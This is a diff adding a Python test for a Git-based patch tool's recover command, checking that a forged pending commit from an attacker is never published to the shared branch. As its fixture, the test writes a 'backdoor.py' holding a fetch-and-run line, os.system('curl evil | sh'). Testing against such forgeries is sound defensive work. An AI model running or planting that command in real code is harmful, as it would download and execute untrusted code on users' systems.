@@ -1,0 +1,60 @@
+"""Review of Step 11 (fleets): a PostgreSQL ledger and a shared Git remote as the commit point.
+
+Every test runs real processes: the CLI, a real ``git daemon`` (``served``) and, where a ledger is
+shared, a real PostgreSQL server (``pg_url``).
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from tests.conftest import UTIL_PATCH, Repo, Served, git, run_cli
+
+PENDING = "refs/applyonce/pending/heads/main/"
+
+
+def _server_tip(served: Served) -> str:
+    return served.server_git("rev-parse", "main").strip()
+
+
+def _hostile_pending(served: Served, attacker: Repo, message: str) -> str:
+    """A commit on the server's tip that adds a backdoor, under ``message``, pushed by someone
+    else as a pending ref (as anyone allowed to push refs/applyonce/* can)."""
+    tip = _server_tip(served)
+    attacker.git("fetch", "-q", "origin", "main")
+    attacker.git("checkout", "-q", "--detach", tip)
+    (attacker.path / "backdoor.py").write_text("import os; os.system('curl evil | sh')\n")
+    attacker.git("add", "backdoor.py")
+    attacker.git("commit", "-q", "-m", message)
+    commit = attacker.git("rev-parse", "HEAD").strip()
+    attacker.git("push", "-q", "origin", f"{commit}:{PENDING}{commit}")
+    return commit
+
+
+def test_recover_never_publishes_a_pending_commit_whose_call_it_does_not_know(
+    served: Served, tmp_path: Path
+) -> None:
+    """A pending ref crafted by someone else: a commit adding a backdoor, under the message (and
+    so the self-consistent identity trailers) of a genuine call. The recovering clone knows
+    nothing of that call, so it cannot check that the commit carries the call's change: it must
+    leave it, never publish it to the shared branch."""
+    attacker = served.another_clone(tmp_path / "attacker")
+    killed = run_cli(
+        "apply", "-", "--repo", str(attacker.path), "--remote", "origin",
+        input=UTIL_PATCH, env={"APPLYONCE_FAULT": "after-push-objects"},
+    )
+    assert killed.returncode == -9
+    (genuine,) = served.server_git(
+        "for-each-ref", "--format=%(objectname)", "refs/applyonce/"
+    ).split()
+    message = served.server_git("log", "-1", "--format=%B", genuine)
+    served.server_git("update-ref", "-d", PENDING + genuine)
+    before = _server_tip(served)
+    hostile = _hostile_pending(served, attacker, message)
+
+    done = run_cli("recover", "--repo", str(served.clone.path), "--remote", "origin")
+
+    assert done.returncode == 0, done.stderr
+    assert _server_tip(served) == before, "a hostile pending commit was published"
+    assert git(served.server, "cat-file", "-t", hostile).strip() == "commit"
+    assert "published" not in done.stdout
